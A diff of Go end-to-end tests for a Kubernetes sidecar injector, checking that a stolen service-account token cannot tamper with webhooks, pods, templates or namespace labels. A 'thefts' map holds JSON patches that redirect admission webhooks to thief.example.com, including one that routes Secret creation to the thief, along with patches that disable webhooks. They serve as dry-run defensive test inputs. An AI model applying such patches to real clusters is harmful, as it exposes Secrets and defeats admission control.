@@ -2,16 +2,26 @@ package e2e
 
 import (
 	"context"
+	"encoding/base64"
+	"encoding/json"
 	"errors"
 	"fmt"
+	"maps"
 	"strings"
 	"testing"
+	"time"
 
 	authorizationv1 "k8s.io/api/authorization/v1"
+	corev1 "k8s.io/api/core/v1"
+	apierrors "k8s.io/apimachinery/pkg/api/errors"
 	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
+	"k8s.io/apimachinery/pkg/apis/meta/v1/unstructured"
+	"k8s.io/apimachinery/pkg/types"
 	"k8s.io/client-go/kubernetes"
+	"k8s.io/client-go/rest"
 
 	"github.com/pillion-dev/pillion/e2e/ground"
+	"github.com/pillion-dev/pillion/injector/proof"
 )
 
 // right is something that an account may or may not do.
@@ -32,10 +42,16 @@ func mayAt(t *testing.T, admin kubernetes.Interface, account string, r right) bo
 // mayAs is mayAt for the account of a user name, which is in that namespace.
 func mayAs(t *testing.T, admin kubernetes.Interface, user, namespace string, r right) bool {
 	t.Helper()
+	return isAllowed(t, admin, r, user, "system:serviceaccounts", "system:serviceaccounts:"+namespace)
+}
+
+// isAllowed asks an API server what a user of these groups may do.
+func isAllowed(t *testing.T, admin kubernetes.Interface, r right, user string, groups ...string) bool {
+	t.Helper()
 	review, err := admin.AuthorizationV1().SubjectAccessReviews().Create(t.Context(), &authorizationv1.SubjectAccessReview{
 		Spec: authorizationv1.SubjectAccessReviewSpec{
 			User:   user,
-			Groups: []string{"system:serviceaccounts", "system:serviceaccounts:" + namespace, "system:authenticated"},
+			Groups: append(groups, "system:authenticated"),
 			ResourceAttributes: &authorizationv1.ResourceAttributes{
 				Verb: r.verb, Group: r.group, Resource: r.resource, Subresource: r.subresource, Namespace: r.namespace, Name: r.name,
 			},
@@ -63,7 +79,7 @@ func TestPillionsRightsAreWhatItNeedsAndNoMore(t *testing.T) {
 		webhooks     = "mutatingwebhookconfigurations"
 		own          = ground.Namespace
 	)
-	allowed := []right{
+	needed := []right{
 		{verb: "get", resource: "secrets", namespace: own, name: caSecret},
 		{verb: "list", resource: "namespaces"},
 		{verb: "watch", resource: "namespaces"},
@@ -149,7 +165,7 @@ func TestPillionsRightsAreWhatItNeedsAndNoMore(t *testing.T) {
 		{verb: "list", resource: "nodes"},
 		{verb: "update", group: "apps", resource: "deployments", namespace: own, name: "pillion"},
 	}
-	for _, r := range allowed {
+	for _, r := range needed {
 		if !may(t, account, r) {
 			t.Errorf("Pillion may not %+v, and needs to", r)
 		}
@@ -163,99 +179,314 @@ func TestPillionsRightsAreWhatItNeedsAndNoMore(t *testing.T) {
 
 func TestOrdinaryUsersMayNotWriteTemplates(t *testing.T) {
 	t.Parallel()
+	const group, templates = "pillion.dev", "sidecartemplates"
 	// In the whole cluster: in a namespace no role would give a right on templates, which
 	// are in none.
-	for _, role := range []string{"view", "edit", "admin"} {
+	for role, writes := range map[string]bool{"view": false, "edit": true, "admin": true} {
 		user := unique(role)
 		must(t, "", "kubectl", "create", "clusterrolebinding", user, "--clusterrole="+role, "--user="+user)
-		t.Cleanup(func() {
-			if _, err := ground.Run(context.Background(), shared, "kubectl", "delete", "clusterrolebinding", user); err != nil {
-				t.Error(err)
-			}
-		})
-		can := func(verb, resource string, more ...string) string {
-			out, _, _ := run(t, "", "kubectl", append([]string{"auth", "can-i", verb, resource, "--as=" + user}, more...)...) // the exit code says the same as the word
-			answer, _, _ := strings.Cut(strings.TrimSpace(out), " ")                                                          // what comes after it is about roles that others are deleting
-			return answer
-		}
+		t.Cleanup(func() { remove(t, "clusterrolebinding/"+user) })
 		// Aggregation is a controller's work, and rights are cached.
 		eventually(t, soon, func() error {
-			if got := can("list", "sidecartemplates.pillion.dev"); got != "yes" {
-				return fmt.Errorf("whoever is bound to %s in the whole cluster may list templates: %q, want yes", role, got)
+			if !isAllowed(t, client, right{verb: "list", group: group, resource: templates}, user) {
+				return fmt.Errorf("whoever is bound to %s in the whole cluster may not list templates", role)
 			}
 			return nil
 		})
-		if got, want := can("create", "pods"), map[string]string{"view": "no", "edit": "yes", "admin": "yes"}[role]; got != want {
-			t.Errorf("whoever is bound to %s may create pods: %q, want %q, or else this shows nothing", role, got, want)
+		if got := isAllowed(t, client, right{verb: "create", resource: "pods", namespace: "default"}, user); got != writes {
+			t.Errorf("whoever is bound to %s may create pods: %t, want %t, or else this shows nothing", role, got, writes)
 		}
 		for _, verb := range []string{"create", "update", "patch", "delete", "deletecollection"} {
 			for _, subresource := range []string{"", "status"} {
-				if got := can(verb, "sidecartemplates.pillion.dev", "--subresource="+subresource); got != "no" {
-					t.Errorf("whoever is bound to %s may %s templates (subresource %q): %q, want no", role, verb, subresource, got)
+				if isAllowed(t, client, right{verb: verb, group: group, resource: templates, subresource: subresource}, user) {
+					t.Errorf("whoever is bound to %s may %s templates (subresource %q)", role, verb, subresource)
 				}
 			}
 		}
 	}
 }
 
-// Templates are in no namespace, so whoever may view one only may not read them, unless
-// the chart is told to let everybody.
-func TestEverybodyMayReadTemplatesWhereTheChartSaysSo(t *testing.T) {
+// system is the name of a service account as a user.
+func system(namespace, account string) string {
+	return "system:serviceaccount:" + namespace + ":" + account
+}
+
+// thefts are JSON patches of a webhook configuration that a thief of Pillion's token could
+// want. They are valid for both kinds.
+var thefts = map[string]string{
+	"an entry for Secrets that calls a server of the thief": `[{"op":"add","path":"/webhooks/-","value":{"name":"x.thief.example.com","clientConfig":{"url":"https://thief.example.com/"},` +
+		`"rules":[{"apiGroups":[""],"apiVersions":["v1"],"operations":["CREATE"],"resources":["secrets"]}],"sideEffects":"None","admissionReviewVersions":["v1"]}}]`,
+	"another server":                         `[{"op":"replace","path":"/webhooks/0/clientConfig","value":{"url":"https://thief.example.com/"}}]`,
+	"another Service":                        `[{"op":"replace","path":"/webhooks/0/clientConfig/service/name","value":"thief"}]`,
+	"another path":                           `[{"op":"replace","path":"/webhooks/0/clientConfig/service/path","value":"/thief"}]`,
+	"reviews of Secrets":                     `[{"op":"replace","path":"/webhooks/0/rules","value":[{"apiGroups":[""],"apiVersions":["v1"],"operations":["CREATE"],"resources":["secrets"],"scope":"Namespaced"}]}]`,
+	"a failurePolicy":                        `[{"op":"replace","path":"/webhooks/0/failurePolicy","value":"Fail"},{"op":"replace","path":"/webhooks/1/failurePolicy","value":"Ignore"}]`,
+	"a matchPolicy":                          `[{"op":"replace","path":"/webhooks/0/matchPolicy","value":"Exact"}]`,
+	"every namespace":                        `[{"op":"replace","path":"/webhooks/1/namespaceSelector","value":{}}]`,
+	"no pod":                                 `[{"op":"replace","path":"/webhooks/0/objectSelector","value":{"matchLabels":{"a":"b"}}}]`,
+	"another timeout":                        `[{"op":"replace","path":"/webhooks/0/timeoutSeconds","value":30}]`,
+	"a condition":                            `[{"op":"add","path":"/webhooks/0/matchConditions","value":[{"name":"never","expression":"false"}]}]`,
+	"other side effects":                     `[{"op":"replace","path":"/webhooks/1/sideEffects","value":"None"},{"op":"replace","path":"/webhooks/0/sideEffects","value":"NoneOnDryRun"}]`,
+	"other versions":                         `[{"op":"replace","path":"/webhooks/0/admissionReviewVersions","value":["v1"]}]`,
+	"another name":                           `[{"op":"replace","path":"/webhooks/0/name","value":"x.thief.example.com"}]`,
+	"an entry less":                          `[{"op":"remove","path":"/webhooks/1"}]`,
+	"no entry":                               `[{"op":"replace","path":"/webhooks","value":[]}]`,
+	"a label":                                `[{"op":"add","path":"/metadata/labels/x","value":"y"}]`,
+	"an annotation":                          `[{"op":"add","path":"/metadata/annotations","value":{"cert-manager.io/inject-ca-from-secret":"a/b"}}]`,
+	"no owners of fields":                    `[{"op":"replace","path":"/metadata/managedFields","value":[{}]}]`,
+	"an owner of fields less":                `[{"op":"remove","path":"/metadata/managedFields/0"}]`,
+	"an owner of fields more":                `[{"op":"add","path":"/metadata/managedFields/-","value":{"manager":"x","operation":"Apply","apiVersion":"admissionregistration.k8s.io/v1","fieldsType":"FieldsV1","fieldsV1":{"f:metadata":{"f:labels":{"f:helm.sh/chart":{}}}}}}]`,
+	"a finalizer":                            `[{"op":"add","path":"/metadata/finalizers","value":["thief.example.com/never"]}]`,
+	"an owner, by deletion of which it goes": `[{"op":"add","path":"/metadata/ownerReferences","value":[{"apiVersion":"v1","kind":"Namespace","name":"x","uid":"y"}]}]`,
+}
+
+// steal tries patches of both configurations by dry run, and returns the error of each.
+func steal(t *testing.T, user, name string, patches map[string]string) map[string]error {
+	t.Helper()
+	as := rest.CopyConfig(config)
+	if user != "" {
+		as.Impersonate = rest.ImpersonationConfig{UserName: user, Groups: []string{"system:serviceaccounts", "system:authenticated"}}
+	}
+	c, err := kubernetes.NewForConfig(as)
+	if err != nil {
+		t.Fatal(err)
+	}
+	errs := map[string]error{}
+	api, options := c.AdmissionregistrationV1(), metav1.PatchOptions{DryRun: []string{metav1.DryRunAll}}
+	for what, patch := range patches {
+		_, errs["mutating: "+what] = api.MutatingWebhookConfigurations().Patch(t.Context(), name, types.JSONPatchType, []byte(patch), options)
+		_, errs["validating: "+what] = api.ValidatingWebhookConfigurations().Patch(t.Context(), name, types.JSONPatchType, []byte(patch), options)
+	}
+	return errs
+}
+
+// RBAC gives Pillion the right to patch its webhook configurations, and the chart's policy
+// leaves it the caBundle.
+func TestAStolenTokenCanChangeNothingOfAWebhookConfigurationButTheCABundle(t *testing.T) {
 	t.Parallel()
-	const prefix = "readers.example.com" // a group of its own: other tests ask about pillion.dev
-	namespace := newNamespace(t, nil, nil).name
-	user := unique("viewer")
-	must(t, "", "kubectl", "-n", namespace, "create", "rolebinding", user, "--clusterrole=view", "--user="+user)
-	// Not by kubectl, which asks about kinds that the API server serves only.
-	may := func(user, verb string) bool {
-		t.Helper()
-		review, err := client.AuthorizationV1().SubjectAccessReviews().Create(t.Context(), &authorizationv1.SubjectAccessReview{
-			Spec: authorizationv1.SubjectAccessReviewSpec{
-				User: user, Groups: []string{"system:authenticated"},
-				ResourceAttributes: &authorizationv1.ResourceAttributes{Verb: verb, Group: prefix, Resource: "sidecartemplates"},
-			},
-		}, metav1.CreateOptions{})
+	account := system(ground.Namespace, "pillion")
+	reinvocation := map[string]string{"reinvocation": `[{"op":"replace","path":"/webhooks/0/reinvocationPolicy","value":"Never"}]`}
+	for what, err := range steal(t, "", configuration, thefts) {
 		if err != nil {
-			t.Fatal(err)
+			t.Errorf("an admin: %s: %v; this patch shows nothing", what, err)
 		}
-		return review.Status.Allowed
 	}
-	apply := func(sets ...string) {
-		t.Helper()
-		args := append([]string{"template", "readers", checkout.Chart(), "-n", namespace, "--show-only", "templates/rbac.yaml", "--set", "annotationPrefix=" + prefix}, flags(sets)...)
-		must(t, must(t, "", "helm", args...), "kubectl", "apply", "-f", "-")
+	all := steal(t, account, configuration, thefts)
+	maps.Copy(all, steal(t, account, configuration, reinvocation))
+	delete(all, "validating: reinvocation") // it has no such field
+	for what, err := range all {
+		if !apierrors.IsInvalid(err) && !apierrors.IsForbidden(err) || !strings.Contains(err.Error(), "ValidatingAdmissionPolicy") {
+			t.Errorf("%s: %v, want it refused by the policy", what, err)
+		}
 	}
-	t.Cleanup(func() {
-		for _, kind := range []string{"clusterrolebinding", "clusterrole"} {
-			if _, err := ground.Run(context.Background(), shared, "kubectl", "delete", kind, "-l", "app.kubernetes.io/instance=readers"); err != nil {
-				t.Error(err)
+	bundle, err := publishedBundle(t)
+	if err != nil {
+		t.Fatal(err)
+	}
+	allowed := map[string]string{"the caBundle": fmt.Sprintf(`[{"op":"remove","path":"/webhooks/0/clientConfig/caBundle"},{"op":"add","path":"/webhooks/1/clientConfig/caBundle","value":%q}]`, base64.StdEncoding.EncodeToString(bundle))}
+	for what, err := range steal(t, account, configuration, allowed) {
+		if err != nil {
+			t.Errorf("%s: %v, want it allowed", what, err)
+		}
+	}
+}
+
+// RBAC gives the right to create pods in the proof namespace, and the chart's policy leaves dry
+// runs of it.
+func TestAStolenTokenCanRunNoPodInTheProofNamespace(t *testing.T) {
+	t.Parallel()
+	thief, admin := as(t, system(ground.Namespace, "pillion")).CoreV1().Pods(proofNamespace), client.CoreV1().Pods(proofNamespace)
+	pod := func() *corev1.Pod { return proof.Pod("pillion.dev", proof.Template) }
+	dry := metav1.CreateOptions{DryRun: []string{metav1.DryRunAll}}
+	eventually(t, soon, func() error { // API servers take up a new policy after a moment
+		if real, err := thief.Create(t.Context(), pod(), metav1.CreateOptions{}); err == nil || !strings.Contains(err.Error(), "ValidatingAdmissionPolicy") {
+			if err == nil {
+				err = errors.Join(errors.New("it is created"), admin.Delete(t.Context(), real.Name, metav1.DeleteOptions{}))
 			}
+			return fmt.Errorf("a pod: %w, want it refused by the policy", err)
 		}
+		return nil
 	})
-	apply()
-	// When this right is in force, so is what else was applied.
-	must(t, "", "kubectl", "create", "clusterrolebinding", user, "--clusterrole=readers-pillion-"+namespace+"-view", "--user="+user+"-of-all")
+	if got, err := thief.Create(t.Context(), pod(), dry); err != nil || !proof.Injected("pillion.dev", got) {
+		t.Errorf("a pod by dry run: %v, want it injected", err)
+	}
+	// No right is more than that, and if somebody gave one, the policy would hold.
+	must(t, "", "kubectl", "-n", proofNamespace, "create", "rolebinding", "given", "--clusterrole=edit", "--serviceaccount="+ground.Namespace+":pillion")
 	t.Cleanup(func() {
-		if _, err := ground.Run(context.Background(), shared, "kubectl", "delete", "clusterrolebinding", user); err != nil {
+		if _, err := ground.Run(context.Background(), shared, "kubectl", "-n", proofNamespace, "delete", "rolebinding", "given"); err != nil {
 			t.Error(err)
 		}
 	})
-	eventually(t, soon, func() error {
-		if !may(user+"-of-all", "list") {
-			return errors.New("whoever is bound to the view role in the whole cluster may not list templates")
-		}
-		return nil
-	})
-	if may(user, "list") {
-		t.Error("a viewer of one namespace may list templates")
+	own := pod()
+	own.Name, own.GenerateName = unique("own"), ""
+	if _, err := admin.Create(t.Context(), own, metav1.CreateOptions{}); err != nil {
+		t.Fatal(err)
 	}
-	apply("rbac.everyoneReadsTemplates=true")
-	eventually(t, soon, func() error {
-		for verb, want := range map[string]bool{"get": true, "list": true, "watch": true, "create": false, "patch": false, "delete": false} {
-			if got := may(user, verb); got != want {
-				return fmt.Errorf("everybody may %s templates: %t, want %t", verb, got, want)
+	t.Cleanup(func() {
+		now := int64(0)
+		if err := admin.Delete(context.Background(), own.Name, metav1.DeleteOptions{GracePeriodSeconds: &now}); err != nil {
+			t.Error(err)
+		}
+	})
+	for what, try := range map[string]func() error{
+		"a label": func() error {
+			_, err := thief.Patch(t.Context(), own.Name, "application/merge-patch+json", []byte(`{"metadata":{"labels":{"a":"b"}}}`), metav1.PatchOptions{})
+			return err
+		},
+		"a deletion":            func() error { return thief.Delete(t.Context(), own.Name, metav1.DeleteOptions{}) },
+		"a deletion by dry run": func() error { return thief.Delete(t.Context(), own.Name, metav1.DeleteOptions{DryRun: dry.DryRun}) },
+	} {
+		eventually(t, soon, func() error { // the right that was given comes after a moment
+			if err := try(); err == nil || !strings.Contains(err.Error(), "ValidatingAdmissionPolicy") {
+				return fmt.Errorf("%s of a pod: %v, want it refused by the policy", what, err)
+			}
+			return nil
+		})
+	}
+}
+
+// RBAC gives Pillion the right to write SidecarTemplates, and the chart's policy leaves it
+// mirrors, from which nothing is injected.
+func TestAStolenTokenCanMakeNoTemplateThatIsInjected(t *testing.T) {
+	t.Parallel()
+	real := newTemplate(t)
+	api := thiefsTemplates(t)
+	object := func(name string, labels map[string]string) *unstructured.Unstructured {
+		return manifest{name: name, spec: sidecarSpec}.unstructured(t, labels)
+	}
+	dry := []string{metav1.DryRunAll}
+	is := map[string]string{mirrorLabel: "true"}
+	update := func(name string, labels map[string]string) error {
+		var o *unstructured.Unstructured
+		var err error
+		for range 20 { // Pillion writes the status meanwhile
+			if o, err = adminTemplates(t).Get(t.Context(), name, metav1.GetOptions{}); err != nil {
+				return err
+			}
+			o.SetLabels(labels)
+			if _, err = api.Update(t.Context(), o, metav1.UpdateOptions{DryRun: dry}); !apierrors.IsConflict(err) {
+				break
 			}
 		}
+		return err
+	}
+	create := func(labels map[string]string) error {
+		_, err := api.Create(t.Context(), object(unique("thief"), labels), metav1.CreateOptions{DryRun: dry})
+		return err
+	}
+	eventually(t, soon, func() error { return update("fluent-bit", is) })
+	for what, c := range map[string]struct {
+		err     error
+		allowed bool
+	}{
+		"a template":                     {create(nil), false},
+		"a template with another value":  {create(map[string]string{mirrorLabel: "false"}), false},
+		"a mirror":                       {create(is), true},
+		"a real template changed":        {update(real, map[string]string{"a": "b"}), false},
+		"a real template made a mirror":  {update(real, is), false},
+		"a mirror made a template":       {update("fluent-bit", nil), false},
+		"a mirror changed":               {update("fluent-bit", map[string]string{mirrorLabel: "true", "a": "b"}), true},
+		"a real template deleted":        {api.Delete(t.Context(), real, metav1.DeleteOptions{DryRun: dry}), false},
+		"a mirror deleted":               {api.Delete(t.Context(), "fluent-bit", metav1.DeleteOptions{DryRun: dry}), true},
+		"all deleted":                    {api.DeleteCollection(t.Context(), metav1.DeleteOptions{DryRun: dry}, metav1.ListOptions{}), false},
+		"a mirror patched to be none":    {patchError(api.Patch(t.Context(), "fluent-bit", types.MergePatchType, []byte(`{"metadata":{"labels":null}}`), metav1.PatchOptions{DryRun: dry})), false},
+		"a template made by a patch":     {patchError(api.Apply(t.Context(), unique("thief"), object(unique("thief"), nil), metav1.ApplyOptions{FieldManager: "thief", DryRun: dry})), false},
+		"a status with another's labels": {patchError(api.Patch(t.Context(), real, types.MergePatchType, []byte(`{"metadata":{"labels":{"`+mirrorLabel+`":"true"}}}`), metav1.PatchOptions{DryRun: dry}, "status")), true},
+	} {
+		if c.allowed && c.err != nil || !c.allowed && !apierrors.IsForbidden(c.err) {
+			t.Errorf("%s: %v; want it allowed: %t", what, c.err, c.allowed)
+		}
+	}
+	ofStatus, err := api.Patch(t.Context(), real, types.MergePatchType, []byte(`{"metadata":{"labels":{"`+mirrorLabel+`":"true"}}}`), metav1.PatchOptions{DryRun: dry}, "status")
+	if err != nil || ofStatus.GetLabels()[mirrorLabel] != "" {
+		t.Errorf("by a write of the status the labels are %v, %v", ofStatus.GetLabels(), err)
+	}
+
+	// A mirror that the thief makes injects nothing, and does not stay.
+	name := unique("thief")
+	if _, err := api.Create(t.Context(), object(name, is), metav1.CreateOptions{}); err != nil {
+		t.Fatal(err)
+	}
+	n := newNamespace(t, nil, nil)
+	began := time.Now()
+	eventually(t, soon, func() error {
+		if _, err := n.preview(t, newPod("web", asking(name))); err == nil || !strings.Contains(err.Error(), "UnknownTemplate") {
+			t.Fatalf("a pod that asks for the thief's mirror: %v", err)
+		}
+		if _, err := adminTemplates(t).Get(t.Context(), name, metav1.GetOptions{}); !apierrors.IsNotFound(err) {
+			return errors.Join(errors.New("the thief's mirror is still there"), err)
+		}
 		return nil
 	})
+	if took := time.Since(began); took < 2*time.Second {
+		t.Errorf("it went within %s: too soon for the pods to show anything", took)
+	}
+	// What it did to a mirror is undone.
+	shown := showFalsely(t, "pod-defaults")
+	eventually(t, soon, func() error {
+		o, err := adminTemplates(t).Get(t.Context(), "pod-defaults", metav1.GetOptions{})
+		if err == nil && fmt.Sprint(o.Object["spec"]) != shown {
+			err = fmt.Errorf("the mirror shows %v", o.Object["spec"])
+		}
+		return err
+	})
+}
+
+// What the policies leave to a thief of Pillion's token: the values that Pillion writes, as Pillion
+// writes them.
+func TestAStolenTokenCanGiveLabelsNoValueThatPillionDoesNotGive(t *testing.T) {
+	t.Parallel()
+	thief := asUser(t, system(ground.Namespace, "pillion"), "system:serviceaccounts")
+	n := newNamespace(t, nil, map[string]string{"team": "web"})
+	switchedOff := newNamespace(t, asking("fluent-bit"), map[string]string{injectionLabel: "disabled"})
+	try := func(n *namespace, kind types.PatchType, data, manager string) error {
+		options := metav1.PatchOptions{FieldManager: manager, DryRun: []string{metav1.DryRunAll}}
+		if kind == types.ApplyPatchType {
+			options.Force = new(true)
+		}
+		_, err := thief.CoreV1().Namespaces().Patch(t.Context(), n.name, kind, []byte(data), options)
+		return err
+	}
+	applied := func(labels map[string]string) string {
+		data, _ := json.Marshal(map[string]any{"apiVersion": "v1", "kind": "Namespace", "metadata": map[string]any{"labels": labels}})
+		return string(data)
+	}
+	// Of so many labels only the number is compared, and who owns them: nobody.
+	many := map[string]string{"pod-security.kubernetes.io/enforce": "restricted"}
+	for i := range 1001 {
+		many[fmt.Sprintf("l%x", i)] = ""
+	}
+	nobodys, asked := newNamespace(t, nil, many), newNamespace(t, nil, many)
+	for _, n := range []*namespace{nobodys, asked} {
+		must(t, `[{"op":"replace","path":"/metadata/managedFields","value":[{}]}]`, "kubectl", "patch", "namespace", n.name, "--type=json", "--patch-file=/dev/stdin")
+	}
+	asked.mustPatch(t, asksNow)
+	eventually(t, soon, func() error { return asked.hasInjection(t, "enforced") })
+	level := applied(map[string]string{"pod-security.kubernetes.io/enforce": "privileged"})
+	for what, c := range map[string]struct {
+		n       *namespace
+		kind    types.PatchType
+		data    string
+		manager string
+		allowed bool
+	}{
+		"enabled":                        {n, types.ApplyPatchType, applied(map[string]string{injectionLabel: "enabled"}), "pillion.dev", true},
+		"enforced and required":          {n, types.ApplyPatchType, applied(map[string]string{injectionLabel: "enforced", requiredLabel: "true"}), "pillion.dev", true},
+		"disabled":                       {n, types.ApplyPatchType, applied(map[string]string{injectionLabel: "disabled"}), "pillion.dev", false},
+		"another value":                  {n, types.ApplyPatchType, applied(map[string]string{injectionLabel: "x"}), "pillion.dev", false},
+		"not required":                   {n, types.ApplyPatchType, applied(map[string]string{requiredLabel: "false"}), "pillion.dev", false},
+		"in another name":                {n, types.ApplyPatchType, applied(map[string]string{injectionLabel: "enabled"}), "thief", false},
+		"by an update":                   {n, types.MergePatchType, `{"metadata":{"labels":{"` + injectionLabel + `":"enabled"}}}`, "pillion.dev", false},
+		"no managed fields":              {n, types.JSONPatchType, `[{"op":"replace","path":"/metadata/managedFields","value":[{}]}]`, "pillion.dev", false},
+		"somebody's managed fields":      {n, types.JSONPatchType, `[{"op":"remove","path":"/metadata/managedFields/0"}]`, "pillion.dev", false},
+		"nobody's label, by an apply":    {nobodys, types.ApplyPatchType, level, "before-first-apply", false},
+		"nobody's label, by an update":   {asked, types.MergePatchType, level, "before-first-apply", false},
+		"nobody's label, in its name":    {asked, types.ApplyPatchType, level, "pillion.dev", false},
+		"what a hand switched off":       {switchedOff, types.ApplyPatchType, applied(map[string]string{injectionLabel: "enabled"}), "pillion.dev", false},
+		"what a hand switched off, away": {switchedOff, types.MergePatchType, `{"metadata":{"labels":{"` + injectionLabel + `":null}}}`, "pillion.dev", false},
+	} {
+		if err := try(c.n, c.kind, c.data, c.manager); (err == nil) != c.allowed {
+			t.Errorf("%s: %v, want it allowed: %t", what, err, c.allowed)
+		}
+	}
 }
